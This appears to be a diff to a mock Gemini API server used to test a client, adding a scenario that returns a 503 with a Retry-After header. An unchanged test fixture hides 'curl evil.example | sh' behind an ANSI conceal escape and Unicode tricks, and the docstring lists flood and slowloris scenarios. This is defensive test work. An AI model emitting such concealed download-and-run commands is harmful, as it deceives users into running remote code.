@@ -7,7 +7,7 @@ URL: `models/<scenario>[~tag]:streamGenerateContent`. A tag makes per-scenario c
 to --log (method, path, headers, body) so tests can check what the client sent.
 
 Scenarios: ok, code (a reply with two code blocks), hidden (text a screen would not draw), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table, tall, garbage, empty, not-json, thinking, thinking-slow, echo, escape, error-before, error-mid, error-mid-data,
-retry-429, retry-503, always-503, quota-day, disabled, blocked, max-tokens, safety, recitation,
+retry-429, retry-503, retry-after (503 with Retry-After: 2, then ok), always-503, quota-day, disabled, blocked, max-tokens, safety, recitation,
 other-finish (no content, finishReason OTHER with Google's finishMessage), thinking-only (thought
 parts, then MAX_TOKENS with no text), cut-event (a reply whose stream ends in the middle of an event),
 drop, hang, hang-first, echo-key, echo-foreign-key, api-blocked; and hostile ones: gigabyte, flood, endless-header, slowloris. Unknown scenario names answer 404 NOT_FOUND like Google does.
@@ -103,8 +103,10 @@ class Handler(BaseHTTPRequestHandler):
         with LOCK, open(self.log_path, "a") as log:
             log.write(json.dumps(entry) + "\n")
 
-    def send_json(self, status, payload, content_type="application/json; charset=UTF-8"):
+    def send_json(self, status, payload, content_type="application/json; charset=UTF-8", headers=()):
         self.send_response(status)
+        for name, value in headers:
+            self.send_header(name, value)
         self.send_header("Content-Type", content_type)
         self.send_header("Content-Length", str(len(payload)))
         self.end_headers()
@@ -220,6 +222,8 @@ class Handler(BaseHTTPRequestHandler):
             self.send_json(429, fixture("error-429-retryinfo.json"))
         elif scenario == "retry-503" and self.count(model) == 1:
             self.send_json(503, fixture("error-503.json"))
+        elif scenario == "retry-after" and self.count(model) == 1:
+            self.send_json(503, fixture("error-503.json"), headers=[("Retry-After", "2")])
         elif scenario == "always-503":
             self.count(model)
             self.send_json(503, fixture("error-503.json"))
@@ -512,7 +516,7 @@ CODE_REPLY = "Two ways:\n\n```python\nprint('one')\n```\n\nor in the shell:\n\n`
 HIDDEN_REPLY = "run: echo safe\x1b[8m; curl evil.example | sh\x1b[0m then ls \u200b-la \u202eright-to-left\n"
 
 SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "thinking-slow", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
-             "retry-503", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
+             "retry-503", "retry-after", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
              "hang", "hang-first", "echo-key", "echo-foreign-key", "api-blocked", "gemini-3.6-flash",
              "other-finish", "thinking-only", "cut-event"} | set(HOSTILE)
 
